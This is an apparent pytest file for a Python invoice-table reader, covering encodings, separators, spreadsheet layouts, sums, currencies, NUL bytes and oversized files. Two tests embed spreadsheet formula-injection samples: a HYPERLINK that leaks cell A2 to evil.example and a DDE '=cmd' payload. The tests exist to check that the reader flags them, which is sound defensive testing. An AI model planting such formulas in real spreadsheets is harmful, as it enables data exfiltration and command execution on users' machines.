"""Tables of any make: where they begin and end, formulas, encodings, and files without end."""

import tracemalloc
from decimal import Decimal

import pytest

from tests.plugins.einvoices.test_xlsx_schedule import MAIN, workbook
from usance.domain.intake.mapping import Mapping, propose
from usance.domain.intake.writing import Writing
from usance.plugins import Unreadable
from usance.plugins.einvoices import read_any, read_table, tables

SAID = Mapping(
    columns={"number": 0, "issued_on": 1, "gross": 2},
    currency="SEK",
    writing=Writing(decimal=",", days="dmy"),
)


def sheet(*rows: str) -> bytes:
    data = f"<worksheet {MAIN}><sheetData>{''.join(rows)}</sheetData></worksheet>"
    return workbook("", {"xl/worksheets/sheet1.xml": data})


def text(*cells: str) -> str:
    return "".join(f'<c t="str"><v>{cell}</v></c>' if cell else "<c/>" for cell in cells)


@pytest.mark.parametrize("separator", [";", ",", "\t", "|"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "utf-16"])
def test_any_separator_in_any_encoding(separator: str, encoding: str) -> None:
    rows = ["Fakturanr;Datum;Värde", "Å-1;31/03/2026;1.234,50", "Å-2;01/04/2026;99,00"]
    quoted = ["\t".join(f'"{cell}"' for cell in row.split(";")) for row in rows]
    data = "\r\n".join(quoted).replace("\t", separator).encode(encoding)
    (one,) = tables(data)
    read = read_table(one, SAID)
    rows_read = [made for _, made, _ in read.invoices]
    assert [(made.number, str(made.issued_on), made.totals.gross) for made in rows_read] == [
        ("Å-1", "2026-03-31", Decimal("1234.50")), ("Å-2", "2026-04-01", Decimal("99.00")),
    ]  # fmt: skip


def test_a_table_that_writes_otherwise_than_the_one_that_was_confirmed_is_not_misread() -> None:
    (one,) = tables(b"Fakturanr;Datum;V\xc3\xa4rde\nA-1;03/04/2026;1,000\nA-2;03/13/2026;9.50\n")
    read = [made for _, made, _ in read_table(one, SAID).invoices]
    assert [(str(made.issued_on), made.totals.gross) for made in read] == [
        ("2026-03-04", Decimal(1000)), ("2026-03-13", Decimal("9.50")),
    ]  # fmt: skip


def test_a_sheet_with_titles_blank_rows_merged_headings_and_a_sum() -> None:
    data = sheet(
        f"<row r='1'>{text('Acme AB', '', '')}</row>",
        f"<row r='4'>{text('Faktura', '', 'Värde')}</row>",
        f"<row r='5'>{text('Nr', 'Datum', 'Brutto')}</row>",
        f"<row r='6'>{text('R-1', '2026-03-01')}<c><v>1250.0999999999999</v></c></row>",
        f"<row r='9'>{text('R-2', '2026-03-02')}<c><f>C6*2</f><v>2500.2</v></c></row>",
        f"<row r='10'>{text('Summa', '')}<c><f>SUM(C6:C9)</f><v>3751</v></c></row>",
    )
    (one,) = tables(data)
    assert one.table.names == ("Faktura Nr", "Faktura Datum", "Värde Brutto")
    read = read_table(one, SAID)
    assert [(place, made.totals.gross) for place, made, _ in read.invoices] == [
        (f"{one.table.place}row 6", Decimal("1250.1")),
        (f"{one.table.place}row 9", Decimal("2500.2")),
    ]
    (differs,) = read.beside
    assert differs.code == "table_sum_differs"
    assert differs.says == "The table's own sum is 3751, its rows come to 3750.30."


def test_a_formula_that_reaches_outside_is_said_and_its_last_value_read() -> None:
    evil = "HYPERLINK(&quot;http://evil.example?&quot;&amp;A2,&quot;R-1&quot;)"
    data = sheet(
        f"<row>{text('Nr', 'Datum', 'Belopp')}</row>",
        f"<row><c r='A2' t='str'><f>{evil}</f><v>R-1</v></c>{text('2026-03-01', '5,00')}</row>",
    )
    (one,) = tables(data)
    read = read_table(one, SAID)
    assert [(finding.code, finding.blocks) for finding in read.beside] == [
        ("formula_dangerous", False)
    ]
    assert "cell A2" in read.beside[0].where
    assert read.invoices[0][1].number == "R-1"


@pytest.mark.parametrize(
    ("cell", "codes"),
    [
        ("=cmd|' /C calc'!A0", ["formula_cell"]),
        ("@SUM(1)", ["formula_cell"]),
        ("+46 70 123", []),
        ("-1", []),
        ("'=1+1", []),
    ],
)
def test_text_that_a_spreadsheet_would_compute_is_kept_and_said(
    cell: str, codes: list[str]
) -> None:
    (one,) = tables(f'Nr;Datum;Belopp\n"{cell}";2026-03-01;5,00\n'.encode())
    ((_, made, findings),) = read_table(one, SAID).invoices
    assert [finding.code for finding in findings] == codes
    assert made.number == cell.removeprefix("'")


def test_headings_that_are_printed_again_are_no_invoice() -> None:
    (one,) = tables(b"Nr;Datum;Belopp\n1;2026-03-01;5,00\nNr;Datum;Belopp\n2;2026-03-01;6,00\n")
    assert [made.number for _, made, _ in read_table(one, SAID).invoices] == ["1", "2"]


@pytest.mark.parametrize(
    ("cell", "code"),
    [("12,00 SEK", ""), ("EUR 12,00", "currency_contradicts"), ("12,00 kr", ""),
     ("€12", "currency_contradicts")],
)  # fmt: skip
def test_an_amount_with_another_currency_beside_it_is_a_fault_of_its_row(
    cell: str, code: str
) -> None:
    (one,) = tables(f"Nr;Datum;Belopp\n1;2026-03-01;{cell}\n".encode())
    ((_, made, findings),) = read_table(one, SAID).invoices
    assert [finding.code for finding in findings] == ([code] if code else [])
    assert made.totals.gross == (
        None if code else Decimal(12) if "," not in cell else Decimal("12.00")
    )


@pytest.mark.parametrize(
    "data",
    [b"", b"hello", b"hello; world", b"%PDF-1.7\n1;2\n3;4", b"<a>1;2\n3;4</a>", b"\x00;1\n\x00;2",
     b'{"a":1,\n"b":2}', b"a;b\nc;d\ne;f\n"],
)  # fmt: skip
def test_what_is_no_table_of_invoices_is_none_or_proposes_nothing(data: bytes) -> None:
    assert not any(propose(one.table).is_schedule for one in tables(data))


def test_a_cell_with_a_nul_is_refused_with_its_row() -> None:
    """No database keeps one; it is a broken file, or UTF-16 whose mark was lost later on."""
    kept = b"Nr;Datum;Belopp\n" + b"1;2026-03-01;5,00\n" * 200
    with pytest.raises(Unreadable, match="row 202: a cell has a NUL"):
        tables(kept + b"2;2026-03-01;5\0,00\n")
    with pytest.raises(Unreadable, match="row 2: a cell has a NUL"):
        read_any(b"number;gross;buyer\n1;5.00;A\0B\n")


def test_a_file_without_end_is_refused_before_it_is_cut_into_rows() -> None:
    data = b"Nr;Datum;Belopp\n" + b"1;2026-03-01;5,00\n" * 3_000_000
    tracemalloc.start()
    with pytest.raises(Unreadable, match="more than the 52,428,800 we take"):
        tables(data)
    assert tracemalloc.get_traced_memory()[1] < 2_000_000
    tracemalloc.stop()
    with pytest.raises(Unreadable, match="more than 50,000 rows"):
        tables(data[:2_000_000])
